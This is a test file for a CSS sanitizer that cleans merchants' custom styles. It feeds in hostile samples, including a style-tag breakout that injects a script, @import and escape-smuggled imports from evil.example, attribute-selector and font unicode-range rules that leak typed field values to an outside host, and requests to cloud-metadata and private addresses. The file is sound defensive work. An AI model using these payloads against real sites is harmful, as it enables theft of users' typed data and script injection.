import { describe, expect, it } from 'vitest'
import { sanitizeCustomCss } from './sanitize-css'

describe('sanitizeCustomCss', () => {
  it('keeps ordinary styling', () => {
    expect(sanitizeCustomCss('.hero h1 { letter-spacing: 2px; color: #fff }')).toBe('.hero h1 { letter-spacing: 2px; color: #fff }')
  })

  it('cannot close the style element', () => {
    const css = sanitizeCustomCss('a{color:red}</style><script>alert(1)</script>')
    expect(css.toLowerCase()).not.toContain('</style')
    expect(css).not.toContain('<')
  })

  it('drops imports, expressions and bindings', () => {
    const css = sanitizeCustomCss('@import url(https://evil.example/x.css); a{width:expression(alert(1)); -moz-binding: url(x)}')
    expect(css).not.toMatch(/@import|expression\(|-moz-binding/i)
  })

  it('keeps https images but not private or plain-http ones', () => {
    expect(sanitizeCustomCss('a{background:url(https://cdn.example.com/a.png)}')).toContain('url("https://cdn.example.com/a.png")')
    expect(sanitizeCustomCss('a{background:url(http://cdn.example.com/a.png)}')).toContain('background:none')
    expect(sanitizeCustomCss('a{background:url(https://169.254.169.254/x)}')).toContain('background:none')
  })

  it('removes rules that could read typed values', () => {
    const css = sanitizeCustomCss('input[value^="4"]{background:url(https://evil.example/4)} p{color:red}')
    expect(css).not.toContain('evil')
    expect(css).toContain('p{color:red}')
  })

  it('does not let escapes smuggle a url', () => {
    expect(sanitizeCustomCss('a{background:u\\72l(http://10.0.0.1/x)}')).not.toMatch(/url\(/i)
  })

  it('does not let escapes smuggle an import back in', () => {
    const css = sanitizeCustomCss('@\\import url(https://evil.example/x.css); @imp\\ort "https://evil.example/y.css"; a{color:red}')
    expect(css).not.toMatch(/@import|evil/i)
    expect(css).toContain('a{color:red}')
  })

  it('loads nothing through a url() it cannot read cleanly', () => {
    const css = sanitizeCustomCss('a{background:url("http://10.0.0.1/x)y")} b{background:url(https://cdn.example.com/b.png"x)}')
    expect(css).not.toMatch(/url\(/i)
  })

  it('loads nothing through functions that take a URL as a string', () => {
    const css = sanitizeCustomCss(
      'a{background:image-set("https://192.168.1.1/x.png" 1x)} b{background:-webkit-image-set("https://evil.example/y.png" 1x)} c{background:src("https://evil.example/z")}',
    )
    expect(css).not.toMatch(/image-set\s*\(|\bsrc\s*\(/i)
    expect(css.match(/invalid\(/g)).toHaveLength(3)
  })

  it('drops fonts, whose unicode-range would tell which characters were typed', () => {
    const css = sanitizeCustomCss(
      '@font-face{font-family:leak;src:url(https://evil.example/a.woff);unicode-range:U+0061} p{font-family:leak}',
    )
    expect(css).not.toMatch(/@font-face|evil/i)
    expect(css).toContain('p{font-family:leak}')
  })

  it('removes field-reading rules however the attribute is spelled or nested', () => {
    const css = sanitizeCustomCss(
      '[*|value^="a"]{background:url(https://evil.example/a)} [|name=x]{color:red} body:has(input[value^="b"]){ & .x{background:url(https://evil.example/b)} } @media (min-width:1px){ [VALUE$=c]{background:url(https://evil.example/c)} } p{color:blue}',
    )
    expect(css).not.toMatch(/evil|value|name/i)
    expect(css).toContain('p{color:blue}')
    expect(css).toContain('@media (min-width:1px){')
  })

  it("allows url() only to the store's own image hosts and paths when told them", () => {
    const css = sanitizeCustomCss(
      'a{background:url(https://cdn.shop.example/a.png)} b{background:url(https://evil.example/b.png)} c{background:url(/mockups/c.svg)} d{background:url(//evil.example/d)}',
      {
        imageHosts: ['cdn.shop.example'],
      },
    )
    expect(css).toContain('url("https://cdn.shop.example/a.png")')
    expect(css).toContain('url("/mockups/c.svg")')
    expect(css).not.toContain('evil')
  })
})
